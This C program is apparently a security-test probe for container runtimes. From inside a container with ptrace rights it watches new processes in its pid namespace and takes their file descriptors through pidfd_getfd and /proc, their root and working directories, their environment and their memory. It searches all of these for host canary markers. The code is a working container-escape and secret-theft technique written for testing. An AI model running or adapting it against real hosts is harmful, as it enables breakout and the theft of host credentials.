/* thief.c OWN_NAME: in a container with CAP_SYS_PTRACE, waits for each next process of its pid namespace and takes what that
 * has: descriptors by pidfd_getfd(2) and /proc/PID/fd, its root and its working directory, capabilities, a moment without a
 * filter, its environment, its memory. Prints a line for each that the container has not itself, and "ready" first. */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static struct stat root;

/* A directory of another file system than the root's, or the root of one: the host's. */
static void judge(const char *how, int pid, int number, int fd) {
    struct stat it;
    char way[64], name[4096] = "?";
    if (fstat(fd, &it) != 0) return;
    if (!S_ISDIR(it.st_mode) && !(S_ISREG(it.st_mode) && number > 2)) return;
    int ours = S_ISDIR(it.st_mode) && it.st_dev == root.st_dev && it.st_ino == root.st_ino;
    snprintf(way, sizeof way, "/proc/self/fd/%d", fd);
    ssize_t n = readlink(way, name, sizeof name - 1);
    if (n > 0) name[n] = 0;
    /* Files within reach from there, but not from here. */
    int secret = openat(fd, "secret-of-the-host", O_RDONLY), above = openat(fd, "../secret-of-the-host", O_RDONLY);
    int below = openat(fd, "mnt/secret-of-the-host", O_RDONLY), any = secret >= 0 || above >= 0 || below >= 0;
    if (!ours || any) printf("%s of %d: %d is %s%s\n", how, pid, number, name, any ? ", SECRET" : ""), fflush(stdout);
    if (below >= 0) close(below);
    if (secret >= 0) close(secret);
    if (above >= 0) close(above);
}

static unsigned long long own_capabilities;
static int own_filter;
static struct stat own_users;

static int standing(const char *way, unsigned long long *capabilities, int *filter) {
    char text[4096], *found;
    int fd = open(way, O_RDONLY);
    ssize_t n = fd >= 0 ? read(fd, text, sizeof text - 1) : -1;
    if (fd >= 0) close(fd);
    if (n <= 0) return 0;
    text[n] = 0;
    *filter = 0;
    if (!(found = strstr(text, "CapPrm:")) || sscanf(found, "CapPrm: %llx", capabilities) != 1) return 0;
    if ((found = strstr(text, "\nSeccomp:"))) sscanf(found, "\nSeccomp: %d", filter);
    return 1;
}

/* A word that is in the host's environment and in hooks of the host alone; in two parts, for this program is looked at, too. */
static char word[32];

static void search(const char *how, int pid, const char *text, size_t length) {
    if (memmem(text, length, word, strlen(word))) printf("%s of %d: SECRET\n", how, pid), fflush(stdout);
}

/* What it may do: capabilities and system calls. One in a user namespace of its own has all that there are there. */
static void judge_process(int pid, int looks_into_memory) {
    unsigned long long capabilities;
    int filter;
    char way[64], line[512], access[8];
    static char text[1 << 20];
    struct stat users;
    snprintf(way, sizeof way, "/proc/%d/status", pid);
    int known = standing(way, &capabilities, &filter);
    snprintf(way, sizeof way, "/proc/%d/ns/user", pid);
    int same = stat(way, &users) == 0 && users.st_ino == own_users.st_ino;
    if (known && same && (capabilities & ~own_capabilities))
        printf("capabilities of %d: %llx, SECRET\n", pid, capabilities), fflush(stdout);
    if (known && own_filter && !filter) printf("filter of %d: none, SECRET\n", pid), fflush(stdout);
    snprintf(way, sizeof way, "/proc/%d/environ", pid);
    int fd = open(way, O_RDONLY);
    ssize_t n = fd >= 0 ? read(fd, text, sizeof text) : -1;
    if (n > 0) search("environment", pid, text, n);
    if (fd >= 0) close(fd);
    if (!looks_into_memory) return;
    snprintf(way, sizeof way, "/proc/%d/maps", pid);
    FILE *maps = fopen(way, "r");
    snprintf(way, sizeof way, "/proc/%d/mem", pid);
    fd = open(way, O_RDONLY);
    unsigned long from, to;
    while (maps && fd >= 0 && fgets(line, sizeof line, maps)) {
        if (sscanf(line, "%lx-%lx %7s", &from, &to, access) != 3 || access[0] != 'r') continue;
        for (; from < to && (n = pread(fd, text, to - from < sizeof text ? to - from : sizeof text, from)) > 0; from += n)
            search("memory", pid, text, n);
    }
    if (maps) fclose(maps);
    if (fd >= 0) close(fd);
}

int main(int argc, char **argv) {
    if (stat("/", &root) != 0 || stat("/proc/self/ns/user", &own_users) != 0) return 1;
    if (!standing("/proc/self/status", &own_capabilities, &own_filter)) return 1;
    strcat(strcpy(word, "WORD-OF-"), "THE-HOST");
    printf("ready\n"), fflush(stdout);
    int next = getpid() + 1, last, loadavg = open("/proc/loadavg", O_RDONLY);
    for (unsigned round = 0;; round++) {
        char line[128] = "";
        /* Those that were missed: the last field is the last pid that was given. */
        if (round % 64 == 0 && pread(loadavg, line, sizeof line - 1, 0) > 0
            && sscanf(line, "%*s %*s %*s %*s %d", &last) == 1 && last >= next)
            next = last;
        int pidfd = -1, pid = next;
        /* Others may make processes, too. */
        for (; pid < next + 3; pid++)
            if ((pidfd = syscall(SYS_pidfd_open, pid, 0)) >= 0) break;
        if (pidfd < 0) continue;
        next = pid + 1;
        char way[64];
        for (int turn = 0; turn < 400; turn++) {
            int gone = 1;
            judge_process(pid, turn == 0 && pid % 2);
            for (int number = 0; number < 16; number++) {
                int fd = syscall(SYS_pidfd_getfd, pidfd, number, 0);
                if (fd >= 0) judge("pidfd_getfd", pid, number, fd), close(fd), gone = 0;
                snprintf(way, sizeof way, "/proc/%d/fd/%d", pid, number);
                fd = open(way, O_PATH);
                if (fd >= 0) judge("/proc/PID/fd", pid, number, fd), close(fd), gone = 0;
            }
            static const char *const links[] = {"root", "cwd"};
            for (int n = 0; n < 2; n++) {
                snprintf(way, sizeof way, "/proc/%d/%s", pid, links[n]);
                int fd = open(way, O_PATH);
                if (fd >= 0) judge(links[n], pid, -1, fd), close(fd), gone = 0;
            }
            snprintf(way, sizeof way, "/proc/%d/stat", pid);
            if (gone && access(way, F_OK) != 0) break;
        }
        close(pidfd);
        round = 0;
    }
}
